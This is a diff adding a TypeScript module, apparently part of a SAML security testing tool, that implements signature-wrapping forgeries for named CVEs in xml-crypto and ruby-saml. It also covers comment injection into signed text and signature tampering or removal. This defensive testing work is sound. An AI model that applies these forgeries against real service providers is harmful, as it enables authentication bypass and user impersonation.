@@ -1,0 +1,250 @@
+/**
+ * `saml.signed` attacks on the Signature element itself, and plain damage after signing:
+ *
+ *   extra-signed-info   CVE-2025-29774 (xml-crypto ≤6.0.0): beside the genuine SignedInfo, a second one
+ *                       whose Reference names the forged element with its true digest; the untouched
+ *                       original kept in an <a> wrapper (xml-crypto saml_multiple_signed_info_nodes.xml),
+ *                       or the extra SignedInfo first, in <WRAPPER> (saml_wrapped_signed_info_node.xml)
+ *   digest-comment      CVE-2025-29775: the element forged in place; its DigestValue becomes
+ *                       `<!--digest(forged)-->genuineDigest` (valid_saml_with_digest_comment.xml)
+ *   stray-reference     CVE-2024-45409 (ruby-saml): a ds:Reference with the forged element's digest, earlier
+ *                       in document order than the genuine SignedInfo (`//ds:DigestValue` finds it first)
+ *   comment-injection   a comment inside signed text (Duo 2018): exclusive c14n drops comments, so the
+ *                       signature stays valid while a naive text read stops at the comment
+ *   tamper-signature-value, edit-after-signing, remove-signatures: the signature no longer covers what is sent
+ */
+import type { Document, Element } from '@xmldom/xmldom';
+import { join, readOneOf } from '../../tenant/fields.ts';
+import { firstChildNamed, insertAfter } from '../../saml/dom.ts';
+import { DSIG_NS, descendants } from '../../saml/xmldsig.ts';
+import { evaluateValue } from '../values.ts';
+import { notApplied, type NotApplied, type SignedMutation } from './context.ts';
+import { claimIdentity, digestFor, extensionsOf, rewrite, resolveTarget, signedParts, unsignedCopy, type SignedPart } from './document.ts';
+import { onlyParams, readAttributeName, readIdentity, readIdentityOnly, readTarget, readTemplate, type TargetPath } from './params.ts';
+
+/** The signed part these attacks forge: the signed Assertion when there is one (the published templates), else the Response. */
+function attackedPart(document: Document): SignedPart | NotApplied {
+  const parts = signedParts(document);
+  const part = parts.find((candidate) => candidate.element.localName === 'Assertion') ?? parts[0];
+  return part ?? notApplied('nothing in the document is signed');
+}
+
+function setDigest(reference: Element, digest: string): void {
+  const value = descendants(reference, 'DigestValue')[0]!;
+  while (value.firstChild) value.removeChild(value.firstChild);
+  value.appendChild(value.ownerDocument!.createTextNode(digest));
+}
+
+export const EXTRA_SIGNED_INFO_VARIANTS = ['sibling', 'wrapped'] as const;
+
+export const extraSignedInfoMutation: SignedMutation<{ variant: (typeof EXTRA_SIGNED_INFO_VARIANTS)[number]; identity: string }> = {
+  name: 'extra-signed-info',
+  point: 'saml.signed',
+  summary: 'CVE-2025-29774: a second SignedInfo naming the forged element (claiming identity) beside the genuine one, or wrapped before it.',
+  readParams(raw, path, issues) {
+    onlyParams(raw, path, issues, ['variant', 'identity']);
+    const variant = readOneOf(raw, 'variant', path, issues, EXTRA_SIGNED_INFO_VARIANTS);
+    if (raw['variant'] === undefined) issues.add(join(path, 'variant'), `is required (${EXTRA_SIGNED_INFO_VARIANTS.join(', ')})`);
+    return { variant: variant ?? 'sibling', identity: readIdentity(raw, path, issues) };
+  },
+  apply(sent, { variant, identity }) {
+    return rewrite(sent, (document) => {
+      const part = attackedPart(document);
+      if (!('signature' in part)) return part;
+      const { element, signature, id } = part;
+      const genuineSignedInfo = firstChildNamed(signature, 'SignedInfo')!;
+      const original = unsignedCopy(element);
+      const holder = document.createElement('a');
+      holder.appendChild(original);
+      document.documentElement!.appendChild(holder);
+      const forgedId = `${id}_forged`;
+      element.setAttribute('ID', forgedId);
+      claimIdentity(element, identity);
+      const forgedReference = descendants(genuineSignedInfo, 'Reference')[0]!.cloneNode(true) as Element;
+      forgedReference.setAttribute('URI', `#${forgedId}`);
+      const forgedSignedInfo = document.createElementNS(DSIG_NS, genuineSignedInfo.tagName);
+      forgedSignedInfo.appendChild(forgedReference);
+      const digest = digestFor(element, signature);
+      if (!digest) return notApplied('the signature uses a transform or digest the mutation cannot reproduce');
+      setDigest(forgedReference, digest);
+      if (variant === 'sibling') {
+        insertAfter(forgedSignedInfo, genuineSignedInfo);
+      } else {
+        const wrapper = document.createElement('WRAPPER');
+        wrapper.appendChild(forgedSignedInfo);
+        signature.insertBefore(wrapper, genuineSignedInfo);
+      }
+      return undefined;
+    });
+  },
+};
+
+export const digestCommentMutation: SignedMutation<{ identity: string }> = {
+  name: 'digest-comment',
+  point: 'saml.signed',
+  summary: 'CVE-2025-29775: the signed element forged in place, its DigestValue prefixed with a comment holding the forged digest.',
+  readParams: readIdentityOnly,
+  apply(sent, { identity }) {
+    return rewrite(sent, (document) => {
+      const part = attackedPart(document);
+      if (!('signature' in part)) return part;
+      claimIdentity(part.element, identity);
+      const digest = digestFor(part.element, part.signature);
+      if (!digest) return notApplied('the signature uses a transform or digest the mutation cannot reproduce');
+      const value = descendants(part.signature, 'DigestValue')[0]!;
+      value.insertBefore(document.createComment(digest), value.firstChild);
+      return undefined;
+    });
+  },
+};
+
+export const strayReferenceMutation: SignedMutation<{ identity: string }> = {
+  name: 'stray-reference',
+  point: 'saml.signed',
+  summary: 'CVE-2024-45409: the signed element forged in place; a stray ds:Reference with its digest precedes the genuine SignedInfo in document order.',
+  readParams: readIdentityOnly,
+  apply(sent, { identity }) {
+    return rewrite(sent, (document) => {
+      const part = attackedPart(document);
+      if (!('signature' in part)) return part;
+      const { element, signature } = part;
+      claimIdentity(element, identity);
+      const digest = digestFor(element, signature);
+      if (!digest) return notApplied('the signature uses a transform or digest the mutation cannot reproduce');
+      const stray = descendants(signature, 'Reference')[0]!.cloneNode(true) as Element;
+      setDigest(stray, digest);
+      const root = document.documentElement!;
+      if (element === root) {
+        // Inside the Response's own Signature (which its digest leaves out), ahead of SignedInfo.
+        const object = document.createElementNS(DSIG_NS, signature.prefix ? `${signature.prefix}:Object` : 'Object');
+        object.appendChild(stray);
+        signature.insertBefore(object, signature.firstChild);
+      } else {
+        // Right after the Response's Issuer: before every Signature in the document.
+        const extensions = extensionsOf(root);
+        const issuer = firstChildNamed(root, 'Issuer');
+        if (issuer) insertAfter(extensions, issuer);
+        extensions.appendChild(stray);
+      }
+      return undefined;
+    });
+  },
+};
+
+interface CommentParams {
+  target: TargetPath;
+  at: number | string;
+}
+
+export const commentInjectionMutation: SignedMutation<CommentParams> = {
+  name: 'comment-injection',
+  point: 'saml.signed',
+  summary: 'Splits signed text with a comment (victim@corp.example<!---->.attacker.test): the signature stays valid, a naive text read is cut short.',
+  readParams(raw, path, issues) {
+    onlyParams(raw, path, issues, ['target', 'at']);
+    const target = readTarget(raw, 'target', path, issues, 'Response/Assertion/Subject/NameID')!;
+    const at = raw['at'];
+    if (typeof at === 'number') {
+      if (!Number.isInteger(at) || at < 1 || at > 100_000) issues.add(join(path, 'at'), 'must be a character offset from 1, or the text the comment goes before');
+    } else if (typeof at !== 'string' || at === '' || at.length > 1000) {
+      issues.add(join(path, 'at'), 'is required: a character offset from 1, or the text the comment goes before (e.g. ".attacker.test")');
+    }
+    return { target, at: at as number | string };
+  },
+  apply(sent, { target, at }) {
+    return rewrite(sent, (document) => {
+      const element = resolveTarget(document, target);
+      if (!element) return notApplied(`no element at ${target.text}`);
+      const text = element.textContent ?? '';
+      const position = typeof at === 'number' ? at : text.indexOf(at);
+      if (position <= 0 || position >= text.length) return notApplied(`the text of ${target.text} cannot be split there`);
+      while (element.firstChild) element.removeChild(element.firstChild);
+      element.appendChild(document.createTextNode(text.slice(0, position)));
+      element.appendChild(document.createComment(''));
+      element.appendChild(document.createTextNode(text.slice(position)));
+      return undefined;
+    });
+  },
+};
+
+/** The OpenID Foundation suite's signature corruption, applied to XML: every signature byte XOR 0x5A. */
+export function corruptSignatureValue(value: string): string {
+  return Buffer.from(
+    Buffer.from(value.replace(/\s+/g, ''), 'base64').map((byte) => byte ^ 0x5a),
+  ).toString('base64');
+}
+
+export const tamperSignatureValueMutation: SignedMutation<Record<string, never>> = {
+  name: 'tamper-signature-value',
+  point: 'saml.signed',
+  summary: 'Every SignatureValue byte XOR 0x5A: the signatures are there but do not verify.',
+  readParams(raw, path, issues) {
+    onlyParams(raw, path, issues, []);
+    return {};
+  },
+  apply(sent) {
+    return rewrite(sent, (document) => {
+      const values = descendants(document, 'SignatureValue');
+      if (values.length === 0) return notApplied('nothing in the document is signed');
+      for (const value of values) {
+        const corrupted = corruptSignatureValue(value.textContent ?? '');
+        while (value.firstChild) value.removeChild(value.firstChild);
+        value.appendChild(document.createTextNode(corrupted));
+      }
+      return undefined;
+    });
+  },
+};
+
+interface EditParams {
+  target: TargetPath;
+  attribute: string | undefined;
+  value: string;
+}
+
+export const editAfterSigningMutation: SignedMutation<EditParams> = {
+  name: 'edit-after-signing',
+  point: 'saml.signed',
+  summary: "Changes the target's text (or one attribute) after signing: the signature no longer covers what is sent.",
+  readParams(raw, path, issues) {
+    onlyParams(raw, path, issues, ['target', 'attribute', 'value']);
+    return {
+      target: readTarget(raw, 'target', path, issues)!,
+      attribute: raw['attribute'] === undefined ? undefined : readAttributeName(raw, 'attribute', path, issues),
+      value: readTemplate(raw, 'value', path, issues)!,
+    };
+  },
+  apply(sent, { target, attribute, value }, ctx) {
+    return rewrite(sent, (document) => {
+      const element = resolveTarget(document, target);
+      if (!element) return notApplied(`no element at ${target.text}`);
+      if (attribute) {
+        const original = element.hasAttribute(attribute) ? element.getAttribute(attribute)! : undefined;
+        element.setAttribute(attribute, String(evaluateValue(value, original, ctx.now, 'iso')));
+        return undefined;
+      }
+      const text = String(evaluateValue(value, element.textContent ?? '', ctx.now, 'iso'));
+      while (element.firstChild) element.removeChild(element.firstChild);
+      element.appendChild(document.createTextNode(text));
+      return undefined;
+    });
+  },
+};
+
+export const removeSignaturesMutation: SignedMutation<Record<string, never>> = {
+  name: 'remove-signatures',
+  point: 'saml.signed',
+  summary: 'Strips every ds:Signature (Response and Assertion): the SP gets an unsigned document.',
+  readParams(raw, path, issues) {
+    onlyParams(raw, path, issues, []);
+    return {};
+  },
+  apply(sent) {
+    return rewrite(sent, (document) => {
+      const signatures = descendants(document, 'Signature');
+      if (signatures.length === 0) return notApplied('nothing in the document is signed');
+      for (const signature of signatures) signature.parentNode?.removeChild(signature);
+      return undefined;
+    });
+  },
+};
